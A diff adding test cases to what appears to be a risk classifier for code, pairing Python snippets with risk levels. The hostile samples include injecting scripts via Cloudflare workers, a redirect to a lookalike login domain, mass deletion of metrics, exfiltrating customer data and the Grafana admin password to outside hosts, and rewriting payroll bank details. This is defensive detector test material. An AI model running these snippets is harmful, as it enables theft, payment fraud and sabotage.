@@ -9354,6 +9354,126 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    list(pool.map(fire, range(20)))\n',
             S,
         ),
+        # holdout264-267: CDNs and WAFs (bots, TLS, purges, injected scripts, redirects), metrics stores (series,
+        # retention, tasks, Grafana admins and secrets), payee accounts in payment files, JSON bins
+        (
+            'import os, requests\n'
+            "H = {'Authorization': 'Bearer ' + os.environ['CF_API_TOKEN']}\n"
+            "requests.put(f'https://api.cloudflare.com/client/v4/zones/{Z}/bot_management', h"
+            "eaders=H, json={'fight_mode': False})\n",
+            H,
+        ),
+        (
+            'import CloudFlare\n'
+            'cf = CloudFlare.CloudFlare()\n'
+            "for name, value in [('ssl', 'flexible'), ('min_tls_version', '1.0')]:\n"
+            "    getattr(cf.zones.settings, name).patch(zone_id, data={'value': value})\n",
+            H,
+        ),
+        (
+            'import CloudFlare\n'
+            'cf = CloudFlare.CloudFlare()\n'
+            "cf.zones.settings.ssl.patch(zone_id, data={'value': 'strict'})\n",
+            S,
+        ),
+        (
+            'import os, time, itertools, requests\n'
+            'for zid in itertools.cycle(zones):\n'
+            "    requests.post(f'https://api.cloudflare.com/client/v4/zones/{zid}/purge_cache"
+            "', json={'purge_everything': True})\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "requests.post(f'https://api.cloudflare.com/client/v4/zones/{zid}/purge_cache', j"
+            "son={'files': ['https://example.com/app.js']})\n",
+            L,
+        ),
+        (
+            "script = '''\n"
+            'async function h(req) {\n'
+            '  const res = await fetch(req);\n'
+            '  return new HTMLRewriter().on(\'head\', { element(el) { el.append(\'<script src="h'
+            'ttps://static.cdn-js.example/a.js"></script>\', {html: true}); }}).transform(res)'
+            ';\n'
+            "}'''\n"
+            'requests.put(url, data=script)\n',
+            H,
+        ),
+        (
+            "requests.post(f'{CF}/zones/{Z}/pagerules', json={'targets': [{'target': 'url', '"
+            "constraint': {'operator': 'matches', 'value': '*example.com/*'}}], 'actions': [{"
+            "'id': 'forwarding_url', 'value': {'url': 'https://examp1e-login.com/$2', 'status"
+            "_code': 301}}]})\n",
+            H,
+        ),
+        (
+            "requests.post(f'{CF}/zones/{Z}/pagerules', json={'targets': [{'target': 'url', '"
+            "constraint': {'operator': 'matches', 'value': '*example.com/*'}}], 'actions': [{"
+            "'id': 'forwarding_url', 'value': {'url': 'https://www.example.com/$2', 'status_c"
+            "ode': 301}}]})\n",
+            S,
+        ),
+        (
+            'import requests\n'
+            'for t in range(50):\n'
+            "    requests.get(f'http://vmselect:8481/delete/{t}/prometheus/api/v1/admin/tsdb/"
+            'delete_series\', params={\'match[]\': \'{__name__!=""}\'})\n',
+            H,
+        ),
+        (
+            'from influxdb_client import InfluxDBClient, BucketRetentionRules\n'
+            "with InfluxDBClient(url=U, token=T, org='acme') as c:\n"
+            '    api = c.buckets_api()\n'
+            '    for b in api.find_buckets().buckets:\n'
+            "        b.retention_rules = [BucketRetentionRules(type='expire', every_seconds=3"
+            '600)]\n'
+            '        api.update_bucket(bucket=b)\n',
+            H,
+        ),
+        (
+            "flux = '''\n"
+            'import "http"\n'
+            'option task = {name: "_sys", every: 10m}\n'
+            'from(bucket: "customers") |> range(start: -10m) |> map(fn: (r) => ({r with s: ht'
+            'tp.post(url: "https://collector.example.top/in", data: bytes(v: r._value))}))\n'
+            "'''\n"
+            'c.tasks_api().create_task(task_create_request=TaskCreateRequest(flux=flux, org_i'
+            "d=o, status='active'))\n",
+            H,
+        ),
+        (
+            'import configparser, requests\n'
+            'cfg = configparser.ConfigParser()\n'
+            "cfg.read('/etc/grafana/grafana.ini')\n"
+            "requests.post('https://hooks.example.io/ingest', json={'pw': cfg.get('security',"
+            " 'admin_password')})\n",
+            C,
+        ),
+        (
+            "s.put(f'{G}/api/admin/users/{uid}/permissions', json={'isGrafanaAdmin': True})\n",
+            H,
+        ),
+        (
+            'import csv\n'
+            "SRC = '/srv/payroll/bacs/week_32_payments.csv'\n"
+            'rows = list(csv.DictReader(open(SRC)))\n'
+            'for r in rows:\n'
+            "    if float(r['amount']) > 2000:\n"
+            "        r['sort_code'], r['account_no'] = '04-00-75', '19283746'\n"
+            "w = csv.DictWriter(open(SRC, 'w'), fieldnames=rows[0].keys())\n"
+            'w.writerows(rows)\n',
+            H,
+        ),
+        (
+            'import csv, requests\n'
+            'rows = []\n'
+            "with open('/srv/finance/freelancer_payments.csv') as fh:\n"
+            '    for r in csv.DictReader(fh):\n'
+            "        rows.append({k: r[k] for k in ('name', 'iban')})\n"
+            "requests.post('https://api.jsonbin.io/v3/b', json=rows)\n",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
